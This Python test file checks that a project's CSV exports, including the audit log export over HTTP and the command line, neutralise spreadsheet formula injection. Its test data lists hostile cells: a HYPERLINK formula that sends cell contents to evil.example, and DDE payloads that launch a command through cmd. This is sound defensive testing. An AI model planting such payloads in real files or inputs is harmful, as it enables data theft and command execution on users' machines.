"""CSV exports never hand a spreadsheet a formula: the shared writer, every CSV writer in the
code going through it, and the audit log export over HTTP and from the command line."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from server.exports import csv_safe
from tests.support import Api

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "=",
    "-",
]
HARMLESS = ["plain text", "1200", "-12.50", "+3", "0.5", "", "a=b", "x-y", "email@example.com"]


def _written(*rows: list[Any]) -> list[list[str]]:
    buffer = io.StringIO()
    csv_safe.writer(buffer).writerows(rows)
    return list(csv.reader(io.StringIO(buffer.getvalue())))


def _is_formula(cell: str) -> bool:
    return cell.startswith(csv_safe.FORMULA_TRIGGERS) and not re.fullmatch(
        r"[+-]?\d+(\.\d+)?", cell
    )


@pytest.mark.parametrize("value", HOSTILE)
def test_cell_starting_a_formula_written_as_text(value: str) -> None:
    [[cell]] = _written([value])
    assert cell == "'" + value
    assert not _is_formula(cell)


@pytest.mark.parametrize("value", HARMLESS)
def test_cell_without_formula_written_unchanged(value: str) -> None:
    assert _written([value]) == [[value]]


def test_non_text_cells_written_unchanged() -> None:
    assert _written([-5, 3, None, 1.5]) == [["-5", "3", "", "1.5"]]


def test_every_csv_writer_in_the_code_is_the_safe_one() -> None:
    # Anything that writes CSV for people goes through server/exports/csv_safe.py.
    pattern = re.compile(r"csv\.(writer|DictWriter)\b|from csv import")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("server", "schema")
        for path in (ROOT / folder).rglob("*.py")
        if path != ROOT / "server" / "exports" / "csv_safe.py" and pattern.search(path.read_text())
    ]
    assert offenders == []


CREATE = "mutation($n: String!) { customerCreate(input: {name: $n}) { customer { id } } }"


async def _hostile_events(api: Api) -> Any:
    org = await api.new_org("auditor")
    for agent in HOSTILE[:4]:
        response = await api.client.post(
            "/graphql",
            json={"query": CREATE, "variables": {"n": agent}},
            headers={
                "authorization": f"Bearer {org.token()}",
                "user-agent": agent,
                "x-request-id": "-cmd",
            },
        )
        assert response.status_code == 200
    return org


def _assert_no_formula(text: str) -> list[list[str]]:
    table = list(csv.reader(io.StringIO(text)))
    assert len(table) > 4
    formulas = [cell for row in table for cell in row if _is_formula(cell)]
    assert formulas == []
    cells = {cell for row in table for cell in row}
    assert {"'" + agent for agent in HOSTILE[:4]} <= cells
    assert "'-cmd" in cells
    return table


async def test_audit_export_over_http_neutralises_formulas(api: Api) -> None:
    org = await _hostile_events(api)
    response = await api.client.get(
        "/audit/export",
        params={"format": "csv"},
        headers={"authorization": f"Bearer {org.token('auditor')}"},
    )
    assert response.status_code == 200
    _assert_no_formula(response.text)


async def test_audit_export_command_neutralises_formulas(
    api: Api, database_url: str, settings: Any
) -> None:
    org = await _hostile_events(api)
    env = {
        **os.environ,
        "LEDGERLINE_DATABASE_URL": database_url,
        "LEDGERLINE_DATA_DIR": str(settings.data_dir),
    }
    command = [
        sys.executable, "-m", "server.cli", "audit", "export",
        "--organization", str(org.id), "--format", "csv",
    ]  # fmt: skip
    done = subprocess.run(command, env=env, capture_output=True, text=True, timeout=120)  # noqa: ASYNC221
    assert done.returncode == 0, done.stderr
    _assert_no_formula(done.stdout)
